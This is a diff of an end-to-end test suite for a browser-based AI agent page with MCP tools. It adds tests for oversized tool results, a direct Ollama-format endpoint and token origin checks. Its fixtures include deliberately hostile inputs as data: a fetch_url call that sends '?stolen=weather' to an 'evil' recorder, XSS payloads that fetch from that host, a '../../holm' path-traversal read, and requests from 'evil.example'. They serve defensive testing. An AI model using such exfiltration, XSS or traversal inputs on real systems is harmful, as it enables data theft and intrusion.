@@ -3,13 +3,15 @@
 // HOLM_DOUBLE is the provider double's address; scripts/test-hosts starts it.
 
 import assert from 'node:assert/strict';
-import { rm } from 'node:fs/promises';
+import { createHash } from 'node:crypto';
+import { readdir, readFile, rm } from 'node:fs/promises';
 import { createServer } from 'node:http';
+import { join } from 'node:path';
 import test, { after } from 'node:test';
 import { Run } from '../../holm/dist/kernel.js';
-import { deno } from '../../edge/test/hosts.mjs';
+import { deno, freePort } from '../../edge/test/hosts.mjs';
 import { everything } from '../../edge/test/mcp-server.mjs';
-import { ask, browse, build, idle, journalOf, open, send, serve, texts } from './page.mjs';
+import { ask, browse, build, idle, journalOf, open, preview, send, serve, texts } from './page.mjs';
 
 const double = process.env.HOLM_DOUBLE;
 assert.ok(double, 'HOLM_DOUBLE is not set; run scripts/test-hosts');
@@ -30,7 +32,30 @@ async function recorder() {
   return { url: `http://127.0.0.1:${server.address().port}`, asked, close: () => server.close().closeAllConnections() };
 }
 
-const [site, evil, mcp] = await Promise.all([recorder(), recorder(), everything()]);
+/** More than a journal carries, and different everywhere. */
+const LONG = Array.from({ length: 20_000 }, (_, at) => `line ${at}`).join('\n');
+const DIGEST = createHash('sha256').update(LONG).digest('hex');
+
+/** An MCP server with one tool that says a lot, for any page. */
+async function talkative() {
+  const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };
+  const server = createServer((request, response) => {
+    let body = '';
+    request.on('data', (piece) => (body += piece));
+    request.on('end', () => {
+      if (request.method === 'OPTIONS') return response.writeHead(204, cors).end();
+      const { id, method } = JSON.parse(body);
+      if (id === undefined) return response.writeHead(202, cors).end();
+      const tools = [{ name: 'tell', description: 'Tells everything.', inputSchema: { type: 'object' } }];
+      const results = { initialize: { protocolVersion: '2025-06-18' }, 'tools/list': { tools }, 'tools/call': { content: [{ type: 'text', text: LONG }] } };
+      response.writeHead(200, { ...cors, 'content-type': 'application/json' }).end(JSON.stringify({ jsonrpc: '2.0', id, result: results[method] }));
+    });
+  });
+  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return { url: `http://127.0.0.1:${server.address().port}/mcp?key=a-key-in-an-address`, close: () => server.close().closeAllConnections() };
+}
+
+const [site, evil, mcp, long] = await Promise.all([recorder(), recorder(), everything(), talkative()]);
 
 const CALLS = {
   note: `call:save_note:${hex({ text: 'rain in Bergen' })}`,
@@ -38,6 +63,9 @@ const CALLS = {
   fetchEvil: `call:fetch_url:${hex({ url: `${evil.url}/?stolen=weather` })}`,
   readPage: `call:read_dom:${hex({ selector: 'h2, p' })}`,
   echo: `call:every_echo:${hex({ message: 'hello there' })}`,
+  tell: 'call:long_tell:7b7d',
+  more: `call:read_result:${hex({ reference: DIGEST, offset: LONG.indexOf('line 10000\n') })}`,
+  stolen: `call:read_result:${hex({ reference: '../../holm' })}`,
   empty: `insist:read_dom:${hex({ selector: '.empty' })}`,
   hostile: `say:${hex(
     `<img src="${evil.url}/img" onerror="fetch('${evil.url}/onerror')"><script>fetch('${evil.url}/script')</script>` +
@@ -55,7 +83,19 @@ const answer = (request, response) => {
   }
   return false;
 };
-const page = await serve(undefined, (request, response) => answer(request, response));
+const page = await serve(undefined, (request, response) => answer(request, response) || proxied(request, response));
+
+/** The double as a service on the page's own origin, for the page that speaks to one by itself. */
+const proxied = (request, response) => {
+  if (!request.url.startsWith('/service/')) return false;
+  const parts = [];
+  request.on('data', (part) => parts.push(part));
+  request.on('end', async () => {
+    const answer = await fetch(double + request.url.slice('/service'.length), { method: 'POST', body: Buffer.concat(parts) });
+    response.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? '' }).end(Buffer.from(await answer.arrayBuffer()));
+  });
+  return true;
+};
 const mint = async () => {
   const answer = await fetch(`${edge.url}/token`, {
     method: 'POST',
@@ -76,19 +116,19 @@ const folder = await build({
   HOLM_ENDPOINT_MODEL: '__MODEL__',
   HOLM_TOKEN_URL: '/token',
   HOLM_GRANTS: `fetch:${site.url}`,
-  HOLM_MCP: `every=${mcp.url}`,
+  HOLM_MCP: `every=${mcp.url} long=${long.url}`,
 });
 page.use(folder, (text) => text.replaceAll('__MODEL__', current));
 
 after(async () => {
   await Promise.all([edge.close(), mcp.close(), rm(folder, { recursive: true, force: true })]);
-  for (const server of [site, evil, page]) server.close();
+  for (const server of [site, evil, page, long]) server.close();
 });
 
 /** A browser on the page, with the model behind the endpoint. */
-async function withEndpoint(model, work) {
+async function withEndpoint(model, work, settings) {
   current = model;
-  const { context, requests, close } = await browse();
+  const { context, requests, close } = await browse([], settings);
   try {
     const tab = await open(context, page.url);
     await tab.selectOption('#engine', 'endpoint');
@@ -171,6 +211,81 @@ test('tools of an MCP server are used from the page, after the person allows it'
     await idle(tab);
     assert.match((await texts(tab, 'result')).join(), /hello there/);
   });
+});
+
+test('a result that is too large for a journal is a file of the origin, and the model reads on in it', async () => {
+  // Without the worker that keeps the page's files, so that a reload brings another model.
+  await withEndpoint(CALLS.tell, async (tab) => {
+    await send(tab, 'Tell me everything');
+    await tab.click('#log button:text("Allow")');
+    await idle(tab);
+    const { text, run } = await journalOf(tab);
+    assert.ok(text.includes(DIGEST) && !text.includes('line 10000\\n') && !text.includes('a-key-in-an-address'));
+    const kept = await tab.evaluate(
+      async ([folder, name]) => {
+        const results = await (await navigator.storage.getDirectory()).getDirectoryHandle('holm-results');
+        const file = await (await (await results.getDirectoryHandle(folder)).getFileHandle(name)).getFile();
+        return file.text();
+      },
+      [`run-${run}`, DIGEST],
+    );
+    assert.equal(kept, LONG);
+    current = CALLS.more;
+    await tab.reload();
+    await idle(tab);
+    await ask(tab, 'Read on');
+    assert.match(results((await journalOf(tab)).text).at(-1).text, /^<[^>]*>line 10000\n/);
+    current = CALLS.stolen;
+    await tab.reload();
+    await idle(tab);
+    await ask(tab, 'Read something else');
+    assert.equal(results((await journalOf(tab)).text).at(-1).outcome, 'failed');
+  }, { serviceWorkers: 'block' });
+});
+
+test('the page speaks to a service by itself, in the format that it wants', async () => {
+  const built = await build({ HOLM_ENDPOINT: `${page.url}/service`, HOLM_ENDPOINT_FORMAT: 'ollama', HOLM_ENDPOINT_MODEL: 'hello' });
+  const { context, requests, close } = await browse();
+  page.use(built);
+  try {
+    const tab = await open(context, page.url);
+    await tab.selectOption('#engine', 'endpoint');
+    await idle(tab);
+    await ask(tab, 'Hi');
+    assert.deepEqual(await texts(tab, 'assistant'), [HELLO]);
+    assert.ok(requests.includes(`${page.url}/service/api/chat`), requests.join(' '));
+  } finally {
+    await close();
+    page.use(folder, (text) => text.replaceAll('__MODEL__', current));
+    await rm(built, { recursive: true, force: true });
+  }
+});
+
+test('the example of the documentation: two commands, and the page has a token that opens the model alone', async () => {
+  const port = await freePort();
+  const origin = `http://127.0.0.1:${port}`;
+  const host = await deno({ LLM_ENDPOINT: `${double}/v1`, LLM_API_KEY: KEY, LLM_MODEL: 'hello', HOLM_TOKEN: MASTER, HOLM_ORIGINS: origin });
+  const env = { HOLM_TOKEN: MASTER, HOLM_ENDPOINT: host.url, HOLM_ENDPOINT_MODEL: 'hello', HOLM_TOKEN_URL: '/token' };
+  const built = await build(env);
+  const served = await preview(built, port, env);
+  const { context, close } = await browse();
+  try {
+    const tab = await open(context, served.url);
+    await tab.selectOption('#engine', 'endpoint');
+    await idle(tab);
+    await ask(tab, 'Hi');
+    assert.deepEqual(await texts(tab, 'assistant'), [HELLO]);
+    const { token } = await tab.evaluate(async () => (await fetch('/token', { method: 'POST' })).json());
+    const asked = await fetch(host.url, { method: 'POST', headers: { authorization: `Bearer ${token}`, origin }, body: '{"query":"Hi"}' });
+    assert.equal(asked.status, 403);
+    for (const headers of [{}, { origin: 'https://evil.example' }]) assert.equal((await fetch(`${served.url}/token`, { method: 'POST', headers })).status, 403);
+    for (const name of await readdir(built, { recursive: true })) {
+      if (/\.(js|html)$/.test(name)) assert.ok(!(await readFile(join(built, name), 'utf8')).includes(MASTER), name);
+    }
+  } finally {
+    await close();
+    await Promise.all([served.close(), host.close(), rm(built, { recursive: true, force: true })]);
+  }
 });
 
 test('a guard that refuses a result is shown, and the run ends with the reason', async () => {
